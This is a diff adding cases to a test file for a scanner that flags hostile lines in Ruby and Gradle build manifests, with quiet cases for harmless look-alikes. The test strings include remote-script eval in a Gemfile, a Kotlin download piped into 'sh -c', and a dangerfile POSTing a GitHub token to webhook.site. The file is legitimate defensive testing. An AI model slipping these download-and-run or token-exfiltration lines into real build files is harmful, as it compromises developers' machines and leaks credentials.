@@ -154,6 +154,23 @@ create_makefile("fastjson/fastjson")`,
     expect(buildFinding(added('dangerfile.ts', "import { danger, warn } from 'danger';\nfetch('https://webhook.site/x', { method: 'POST', body: process.env.DANGER_GITHUB_API_TOKEN });"))).not.toBeNull();
   });
 
+  it('reads Ruby eval of downloaded text and Kotlin downloads and processes as a download that is run', () => {
+    expect(kinds("eval(URI.open('https://cdn.tooling-mirror.dev/r.rb').read)", 'ruby')).toEqual(['download', 'execute']);
+    expect(kinds("instance_eval(Net::HTTP.get(URI('https://cdn.tooling-mirror.dev/r.rb')))", 'ruby')).toEqual(['download', 'execute']);
+    expect(kinds('val script = URI("https://cdn.tooling-mirror.dev/g.sh").toURL().readText()', 'java')).toEqual(['download']);
+    expect(kinds('ProcessBuilder("sh", "-c", script).inheritIO().start().waitFor()', 'java')).toEqual(['execute']);
+    const gemfile = buildFinding(makeFile('Gemfile', { patch: "@@ -1,2 +1,4 @@\n source 'https://rubygems.org'\n gem 'rails', '~> 7.1'\n+require 'open-uri'\n+eval(URI.open('https://cdn.tooling-mirror.dev/r.rb').read)" }));
+    expect(gemfile).toMatchObject({ severity: 'high', line: 4 });
+    expect(buildFinding(added('build.gradle.kts', 'plugins { java }\nval script = URI("https://cdn.tooling-mirror.dev/g.sh").toURL().readText()\nProcessBuilder("sh", "-c", script).inheritIO().start().waitFor()'))).toMatchObject({ severity: 'high' });
+  });
+
+  it('is quiet on a block given to instance_eval, eval_gemfile, a repository URI and a local process', () => {
+    expect(kinds('instance_eval(&block)', 'ruby')).toEqual([]);
+    expect(kinds("eval_gemfile 'Gemfile.local' if File.exist?('Gemfile.local')", 'ruby')).toEqual([]);
+    expect(kinds('maven { url = URI("https://repo.acme.dev/maven") }', 'java')).toEqual([]);
+    expect(buildFinding(added('build.gradle.kts', 'plugins { java }\nrepositories { maven { url = URI("https://repo.acme.dev/maven") } }\nval sha = ProcessBuilder("git", "rev-parse", "HEAD").start().inputStream.reader().readText().trim()'))?.severity ?? null).not.toBe('high');
+  });
+
   it('is quiet on the ordinary lines of those manifests', () => {
     expect(buildFinding(added('Gemfile', "source 'https://rubygems.org'\nruby '3.3.6'\ngem 'rails', '~> 7.2'\ngem 'pg', '~> 1.5'\ngroup :development do\n  gem 'rubocop', require: false\nend\ngem 'secret_gem', git: 'https://github.com/acme/secret_gem.git', branch: 'main'\ngemspec\neval_gemfile 'Gemfile.local' if File.exist?('Gemfile.local')"))).toBeNull();
     expect(buildFinding(added('Podfile', "platform :ios, '15.0'\nuse_frameworks!\ntarget 'App' do\n  pod 'Alamofire', '~> 5.9'\nend\npost_install do |installer|\n  installer.pods_project.targets.each { |t| t.build_configurations.each { |c| c.build_settings['IPHONEOS_DEPLOYMENT_TARGET'] = '15.0' } }\nend"))).toBeNull();
